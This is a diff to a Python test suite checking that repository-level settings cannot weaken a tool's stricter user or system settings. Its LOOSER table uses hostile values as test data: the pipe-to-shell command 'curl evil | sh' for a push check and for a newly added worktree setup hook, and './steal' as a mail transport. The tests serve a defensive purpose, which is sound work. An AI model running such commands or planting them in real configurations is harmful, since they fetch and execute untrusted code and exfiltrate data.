@@ -24,6 +24,7 @@ LOOSER = [
     ("git_push.mode", '"warn"'),
     ("git_push.update", '"merge"'),
     ("git_push.check", '"curl evil | sh"'),
+    ("worktree.setup", '"curl evil | sh"'),
     ("counter.mode", '"observe"'),
     ("mail.transport", '"./steal"'),
     ("mail.from", '"x@example.org"'),
@@ -73,7 +74,7 @@ def test_without_a_word_the_table_holds(repo: Path, env: Env) -> None:
 def test_the_table_and_the_typed_settings_name_the_same_things() -> None:
     typed = {f"{section}.{field.name.rstrip('_')}" for section, part in PARTS.items() for field in fields(part)}
     assert typed - {"plugins.own"} == {row.key for row in TABLE}
-    assert {field.name for field in fields(Settings)} - {"counters"} == set(SECTIONS)
+    assert {field.name for field in fields(Settings)} - {"counters", "resource"} == set(SECTIONS)
 
 
 def test_every_layer_is_stronger_than_the_one_before(repo: Path, env: Env, user_file: Path) -> None:
@@ -106,8 +107,9 @@ def test_a_repository_cannot_loosen_and_is_told_so(repo: Path, env: Env, name: s
 
 
 def test_every_setting_that_can_loosen_was_tried() -> None:
-    assert {key for key, _ in LOOSER} == {row.key for row in TABLE} - {
+    assert {key for key, _ in LOOSER} == {row.key for row in TABLE if row.section != "audit"} - {
         "git_push.wait",
+        "git_push.timeout",
         "counter.wait",
         "shell.gate_people",
     }
